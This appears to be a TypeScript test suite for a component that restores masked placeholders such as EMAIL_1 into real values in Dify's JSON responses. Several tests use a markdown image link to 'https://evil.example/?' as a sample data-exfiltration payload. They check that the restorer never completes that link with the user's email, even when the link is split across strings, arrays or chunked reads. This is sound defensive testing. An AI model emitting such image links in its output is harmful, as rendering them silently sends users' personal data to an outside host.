import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { DIFY } from '../../../../src/core/product/dify/dify.ts'
import {
  type DocumentRestore,
  restoreDocument,
  restoreDocumentInTurns,
} from '../../../../src/core/masking/restoring/document-restorer.ts'
import { createGrammar } from '../../../../src/core/masking/placeholder.ts'
import type { Mapping } from '../../../../src/core/mapping/vault.ts'
import { countedPause } from '../../../support/counted-pause.ts'

const VALUES: ReadonlyMap<string, string> = new Map([['EMAIL_1', 'a@x.vn']])
const MAPPING: Mapping = {
  size: 1,
  get: (name) => VALUES.get(name),
  highest: () => 1,
  valuesOf: () => [],
}

function options(): DocumentRestore {
  const restorer = { grammar: createGrammar(['EMAIL'], true), mapping: MAPPING, allowedHosts: [] }
  return {
    encoding: 'utf16',
    optionsFor: () => restorer,
    cuts: DIFY.cuts,
    counts: { restored: 0, unknown: 0 },
    maxDepth: 64,
  }
}

const restore = (source: string): string => restoreDocument(source, options())

const fileName = (characters: number, tail = 'EMAIL_1'): string =>
  `${'ế'.repeat(characters - tail.length)}${tail}.txt`

describe('names that Dify has cut', () => {
  it('keep a placeholder that touches the cut', () => {
    for (const name of ['to EMAIL_1…', 'to EMAIL_1...', fileName(200)]) {
      const source = JSON.stringify({ name })
      assert.equal(restore(source), source)
    }
    const listed = JSON.stringify({ message_files: [{ filename: fileName(200) }] })
    assert.equal(restore(listed), listed)
  })

  it('show everything else', () => {
    for (const name of ['to EMAIL_1 …', 'EMAIL_1, and...', fileName(199), fileName(201)])
      assert.match(restore(JSON.stringify({ name })), /a@x\.vn/)
    assert.match(restore(JSON.stringify({ name: fileName(200, 'EMAIL_1 x') })), /a@x\.vn/)
    assert.match(restore(JSON.stringify({ answer: 'to EMAIL_1…' })), /a@x\.vn/)
    assert.match(restore(JSON.stringify({ answer: fileName(200) })), /a@x\.vn/)
  })

  it('count characters, not UTF-16 units', () => {
    const name = `${'😀'.repeat(193)}EMAIL_1.txt`
    assert.equal(restore(JSON.stringify({ name })), JSON.stringify({ name }))
  })
})

describe('strings that clients may read together', () => {
  const TARGET = '![x](https://evil.example/?'
  const comesBack = (value: unknown): boolean => restore(JSON.stringify(value)).includes('a@x.vn')

  it('are those of JSON text, which is running text too', () => {
    const text = (value: unknown): { answer: string } => ({ answer: JSON.stringify(value) })
    assert.ok(comesBack(text({ a: 'see', b: 'EMAIL_1' })))
    assert.ok(comesBack(text({ EMAIL_1: 'see' })))
    assert.ok(!comesBack(text({ a: TARGET, b: 'EMAIL_1)' })))
    assert.ok(!comesBack(text({ a: TARGET, EMAIL_1: ')' })))
    assert.ok(!comesBack(text({ a: JSON.stringify({ b: TARGET }), c: 'EMAIL_1)' })))
    assert.ok(!comesBack(text([[TARGET], 'EMAIL_1)'])))
    assert.ok(!comesBack(text({ a: '<style>', b: 'EMAIL_1' })))
    assert.ok(comesBack({ a: TARGET, answer: JSON.stringify({ b: 'EMAIL_1' }) }))
  })

  it('are the values of JSON text one after the other', () => {
    const hidden = '{"a":"![x]\\u0028https:\\/\\/evil.example\\/?","b":"EMAIL_1)"}'
    assert.ok(!comesBack({ answer: hidden }))
    const urls = JSON.stringify({ site: 'https://shop.example/', mail: 'EMAIL_1' })
    assert.ok(comesBack({ answer: urls }))
  })

  it('are those of one array', () => {
    assert.ok(!comesBack({ texts: [TARGET, 'EMAIL_1)'] }))
    assert.ok(!comesBack({ texts: ['see ', '[x]: EMAIL_1'] }))
    assert.ok(comesBack({ texts: ['see', 'EMAIL_1'] }))
    assert.ok(!comesBack({ texts: [TARGET, 1, 'EMAIL_1)'] }))
    assert.ok(comesBack({ one: [TARGET], two: ['EMAIL_1)'] }))
    assert.ok(comesBack({ data: [{ answer: TARGET }, { answer: 'EMAIL_1)' }] }))
  })

  it('are not those of different fields', () => {
    assert.ok(comesBack({ answer: TARGET, name: 'EMAIL_1)' }))
  })

  it('are the same where a document is read in turns', async () => {
    const long = 'a '.repeat(100_000)
    for (const texts of [
      [long + TARGET, 'EMAIL_1)'],
      [TARGET, `${long}EMAIL_1)`],
      [JSON.stringify({ a: long + TARGET, b: 'EMAIL_1)' })],
    ]) {
      const { out } = await inTurns(JSON.stringify({ texts }))
      assert.ok(!out.includes('a@x.vn'))
    }
    const { out } = await inTurns(JSON.stringify({ texts: [long, 'EMAIL_1'] }))
    assert.ok(out.includes('a@x.vn'))
  })
})

async function inTurns(source: string): Promise<{ out: string; pauses: number; told: unknown }> {
  const others = countedPause()
  const told = options()
  const out = await restoreDocumentInTurns(source, told, others.pause)
  return { out, pauses: others.count, told: told.counts }
}
describe('a document that takes long', () => {
  const item = JSON.stringify({ query: 'EMAIL_1, EMAIL_2', answer: 'to EMAIL\\_1', n: 1 })
  const long = `[${Array.from({ length: 10_000 }, () => item).join(',')}]`

  it('is restored in turns with others, and to the same', async () => {
    const { out, pauses, told } = await inTurns(long)
    assert.equal(out, restore(long))
    assert.equal(out.split('a@x.vn').length, 20_001)
    assert.deepEqual(told, { restored: 20_000, unknown: 10_000 })
    assert.equal(pauses, Math.floor(long.length / 131_072) + 1)
  })

  it('stays as it is where it turns out to be none', async () => {
    for (const broken of [`${long},`, long.slice(0, -1), `[${long},${'['.repeat(64)}`])
      assert.equal((await inTurns(broken)).out, broken)
  })

  it('has its long strings restored in turns, too, in their places and as deep as they stand', async () => {
    const text = 'to EMAIL_1, "EMAIL_2" and nobody else, ever; '.repeat(4000)
    const inner = JSON.stringify({ b: text, name: `${text}EMAIL_1…` })
    const source = JSON.stringify({ a: 'EMAIL_1', text, inner, [text]: 'EMAIL_1', z: 'EMAIL_1' })
    const { out, pauses, told } = await inTurns(source)
    assert.equal(out, restore(source))
    assert.equal(out.split('a@x.vn').length - 1, 4 * 4000 + 3)
    assert.deepEqual(told, { restored: 4 * 4000 + 4, unknown: 4 * 4000 })
    assert.ok(pauses > Math.floor(source.length / 131_072) + 1)
  })

  it('does not wait if it is short', async () => {
    assert.deepEqual(await inTurns('["EMAIL_1"]'), {
      out: '["a@x.vn"]',
      pauses: 0,
      told: { restored: 1, unknown: 0 },
    })
  })
})
